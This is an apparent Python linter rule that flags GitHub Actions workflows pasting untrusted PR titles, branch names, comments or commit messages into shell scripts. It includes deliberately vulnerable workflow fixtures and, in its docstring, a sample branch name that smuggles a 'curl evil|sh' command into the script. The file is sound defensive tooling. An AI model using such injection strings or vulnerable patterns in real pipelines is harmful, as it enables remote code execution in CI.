"""CIC103 script-injection."""

from __future__ import annotations

from collections.abc import Iterator

from mlopslint.lint.base import File, FileRule, Problem
from mlopslint.lint.workflows import EXPRESSION, root_of, row_of, scripts, steps, triggers
from mlopslint.patterns import late

#: What people without any rights can write.
_UNTRUSTED = late(
    r"github\s{0,3}\.\s{0,3}(?:head_ref\b|event\.(?:"
    r"(?:issue|pull_request|discussion)\.(?:title|body)\b|(?:comment|review|review_comment)\.body\b|pages\.\S{1,20}\.page_name\b"
    r"|commits\.\S{1,20}\.(?:message|author\.(?:email|name))\b|head_commit\.(?:message|author\.(?:email|name)|committer\.(?:email|name))\b"
    r"|commits\[\S{1,20}\]\.(?:message|author\.(?:email|name))\b"
    r"|pull_request\.head\.(?:ref|label|repo\.default_branch)\b"
    r"|workflow_run\.(?:head_branch|head_commit\.(?:message|author\.(?:email|name))|pull_requests\[\S{1,20}\]\.head\.ref)\b))"
)
#: Expressions whose value is true or false, whatever stands in them.
_HARMLESS = late(r"(?i)^\s*!?\s*(?:contains|startsWith|endsWith)\(|[=!]=(?!.*&&)|^\s*hashFiles\(")
#: Events that only people with write access can start.
_INSIDE = frozenset(
    {"push", "schedule", "workflow_dispatch", "release", "create", "delete", "workflow_call", "repository_dispatch"}
)


class ScriptInjection(FileRule):
    """Text that anybody can write, pasted into a script of a workflow.

    What it does
    ------------
    Finds ``${{ }}`` expressions in ``run:`` steps and in the script of ``actions/github-script`` whose value comes from outside: titles,
    bodies and comments of issues and pull requests, names of branches, commit messages and their authors.

    Why is this bad?
    ----------------
    The text becomes part of the program before the shell sees it: a pull request from a branch named ``a";curl evil|sh;"`` runs code in
    your pipeline.

    Example
    -------
    ::

        - run: echo "Review of ${{ github.event.pull_request.title }}"

    Use instead
    -----------
    ::

        - run: echo "Review of $TITLE"
          env:
            TITLE: ${{ github.event.pull_request.title }}

    References
    ----------
    - GitHub, "Script injections": https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections
    - Known from zizmor (template-injection) and actionlint.
    """

    code = "CIC103"
    name = "script-injection"
    severity = "error"
    kinds = ("github-workflow", "github-action")
    markers = (b"github.event", b"github.head_ref")

    def check(self, file: File) -> Iterator[Problem]:
        root = root_of(file)
        events = set(triggers(root))
        inside = bool(events) and events <= _INSIDE
        told: set[tuple[int, str]] = set()
        for item in steps(root):
            for text, line in scripts(item.step):
                for found in EXPRESSION.finditer(text):
                    context = _UNTRUSTED.search(found.group(1))
                    if context is None or _HARMLESS.search(found.group(1)):
                        continue
                    shown = found.group(0).split("\n")[0]
                    name = context.group(0)
                    if inside and "commit" not in name:
                        continue  # empty in these events
                    message = f"{name} is pasted into a script; pass it through an environment variable"
                    row = row_of(file, shown, line)
                    if (row, name) not in told:
                        told.add((row, name))
                        yield file.problem(row, message, confidence="low" if inside else None, part=shown)

    GOOD = (
        {
            ".github/workflows/a.yml": 'on: pull_request\njobs:\n  a:\n    steps:\n      - run: echo "$TITLE" ${{ github.sha }}\n'
            "        env:\n          TITLE: ${{ github.event.pull_request.title }}\n      - if: contains(github.head_ref, 'x')\n        run: a\n"
            "      - run: echo ${{ github.event.pull_request.number }} ${{ github.head_ref == 'main' }}\n"
        },
        {
            ".github/workflows/a.yml": "on: schedule\njobs:\n  a:\n    steps:\n      - run: echo ${{ github.head_ref }}\n"
        },
    )
    BAD = (
        {
            ".github/workflows/a.yml": "on: pull_request\njobs:\n  a:\n    steps:\n      - run: |\n          set -e\n"
            '          echo "${{ github.event.pull_request.title }}"\n'
        },
        {
            ".github/workflows/a.yml": "on: [pull_request_target]\njobs:\n  a:\n    steps:\n      - run: git checkout ${{ github.head_ref || github.ref }}\n"
        },
        {
            ".github/workflows/a.yml": "on: issue_comment\njobs:\n  a:\n    steps:\n      - uses: actions/github-script@v7\n        with:\n"
            "          script: |\n            const text = `${{ github.event.comment.body }}`\n"
        },
        {
            "action.yml": "runs:\n  using: composite\n  steps:\n    - run: echo ${{ github.event.issue.title }}\n      shell: bash\n"
        },
    )
